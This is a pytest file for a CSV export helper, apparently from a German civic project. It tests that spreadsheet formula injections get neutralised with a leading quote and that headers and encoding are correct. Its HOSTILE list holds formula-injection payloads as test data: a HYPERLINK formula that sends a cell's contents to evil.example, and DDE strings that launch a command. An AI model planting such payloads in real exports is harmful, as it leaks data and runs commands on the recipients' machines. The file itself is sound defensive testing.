"""The kernel's CSV files: a header row, UTF-8, and no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from hub.csv_files import csv_cell, csv_response

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"klick")',
    "+49 611 123",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_a_spreadsheet_would_run_is_kept_as_text(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Zukunftswerk", "Karten = Ideen", " =1+1", "Ärger & Ölpreis", ""])
def test_other_texts_stay_as_they_are(text):
    assert csv_cell(text) == text


def test_numbers_the_node_wrote_stay_numbers_and_nothing_is_empty():
    assert csv_cell(Decimal("-8.239761")) == Decimal("-8.239761")
    assert (csv_cell(-3), csv_cell(None), csv_cell(True), csv_cell(False)) == (-3, "", "true", "false")


def test_the_file_has_a_header_row_and_reads_back_as_written():
    response = csv_response(filename="x.csv", columns=("title", "place"),
                            rows=[(HOSTILE[0], "Rathaus\nRaum 2"), ("Ökologie, \"grün\"", None)])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows == [["title", "place"], ["'" + HOSTILE[0], "Rathaus\nRaum 2"], ['Ökologie, "grün"', ""]]
